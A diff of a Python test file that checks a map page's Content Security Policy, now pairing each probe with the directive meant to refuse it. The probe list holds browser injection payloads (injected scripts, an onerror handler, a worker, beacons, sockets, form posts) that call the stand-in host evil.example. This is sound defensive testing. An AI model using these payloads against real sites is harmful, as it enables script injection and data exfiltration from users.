@@ -16,30 +16,33 @@ from geogp.gallery import make_gallery
 from geogp.maps.page import TILE_HOSTS, map_page
 from geogp.maps.page_assets import page_scripts, page_styles
 
-ATTACKS = {
-    "a script": "add('script', {textContent: 'window.hacked = 1'})",
-    "a script from elsewhere": "add('script', {src: 'https://evil.example/x.js'})",
-    "a script as data": "add('script', {src: 'data:text/javascript,window.hacked=1'})",
-    "a handler": "add('div', {innerHTML: '<img src=x onerror=\"window.hacked = 1\">'})",
-    "text as code": "setTimeout('window.hacked = 1')",
-    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.example\")'])))",
-    "a style": "add('style', {textContent: 'body { display: none !important }'})",
-    "a style of an element": "add('div', {innerHTML: '<p style=\"position: fixed\">x</p>'})",
-    "a style from elsewhere": "add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'})",
-    "a request": "fetch('https://evil.example/').catch(() => {})",
-    "a beacon": "navigator.sendBeacon('https://evil.example/', 'x')",
-    "a socket": "new WebSocket('wss://evil.example/')",
-    "a stream": "new EventSource('https://evil.example/')",
-    "an image": "new Image().src = 'https://evil.example/x.png'",
-    "a background": "document.body.style.backgroundImage = 'url(https://evil.example/x.png)'",
-    "a frame": "add('iframe', {src: 'https://evil.example/'})",
-    "a frame's text": "add('iframe', {srcdoc: '<script>parent.hacked = 1</' + 'script>'})",
-    "an object": "add('object', {data: 'https://evil.example/x.pdf'})",
-    "a font": "new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => {})",
-    "a form": "add('form', {action: 'https://evil.example/', method: 'post'}).submit()",
-    "a base": "add('base', {href: 'https://evil.example/'})",
-}
-"""What a script could do, were it to run."""
+ATTACKS = [
+    ("script-src", "add('script', {textContent: 'window.hacked = 1'})"),
+    ("script-src", "add('script', {src: 'https://evil.example/x.js'})"),
+    ("script-src", "add('script', {src: 'data:text/javascript,window.hacked=1'})"),
+    ("script-src", "add('div', {innerHTML: '<img src=x onerror=\"window.hacked = 1\">'})"),
+    ("script-src", "setTimeout('window.hacked = 1')"),
+    (
+        "script-src",
+        "new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.example\")'])))",
+    ),
+    ("style-src", "add('style', {textContent: 'body { display: none !important }'})"),
+    ("style-src", "add('div', {innerHTML: '<p style=\"position: fixed\">x</p>'})"),
+    ("style-src", "add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'})"),
+    ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
+    ("connect-src", "navigator.sendBeacon('https://evil.example/', 'x')"),
+    ("connect-src", "new WebSocket('wss://evil.example/')"),
+    ("connect-src", "new EventSource('https://evil.example/')"),
+    ("img-src", "new Image().src = 'https://evil.example/x.png'"),
+    ("img-src", "document.body.style.backgroundImage = 'url(https://evil.example/x.png)'"),
+    ("frame-src", "add('iframe', {src: 'https://evil.example/'})"),
+    ("script-src", "add('iframe', {srcdoc: '<script>parent.hacked = 1</' + 'script>'})"),
+    ("object-src", "add('object', {data: 'https://evil.example/x.pdf'})"),
+    ("default-src", "new FontFace('x', 'url(https://evil.example/x.woff)').load().catch(() => {})"),
+    ("form-action", "add('form', {action: 'https://evil.example/', method: 'post'}).submit()"),
+    ("base-uri", "add('base', {href: 'https://evil.example/'})"),
+]
+"""What a script could do, were it to run, and the rule against it."""
 
 TRY = """() => {
   const add = (tag, given) => {
@@ -52,15 +55,17 @@ TRY = """() => {
 
 
 def attack(seen):
-    """Try every attack on a page; each must be refused by the policy, and do nothing."""
-    for name, script in ATTACKS.items():
+    """Try every attack on a page; each must be refused by its rule, and do nothing."""
+    for rule, script in ATTACKS:
         seen.evaluate(TRY.replace("ATTACK", script))
         for _ in range(100):
-            if seen.faults:
+            if any(f"{rule} " in fault for fault in seen.faults):
                 break
             seen.wait_for_timeout(20)
-        assert seen.faults, name
-        assert all("Content Security Policy" in fault for fault in seen.faults), name
+        else:
+            pytest.fail(f"expected that {rule} refuses {script}, found {seen.faults}")
+        seen.wait_for_timeout(40)  # some are refused twice
+        assert all("Content Security Policy" in fault for fault in seen.faults), script
         seen.faults.clear()
     assert seen.evaluate("window.hacked") is None
 
@@ -211,6 +216,6 @@ def test_other_pages_show_all_ask_nothing_and_refuse_the_same(visit, documents, 
         assert len(set(ticks)) > 2
     for width in (1440, 390):
         seen.set_viewport_size({"width": width, "height": 900})
-        seen.screenshot(path=artefacts / f"{name}-{width}.png")
+        seen.screenshot(path=artefacts / f"{name}-{width}.png", full_page=True)
     attack(seen)
     assert seen.asked == []
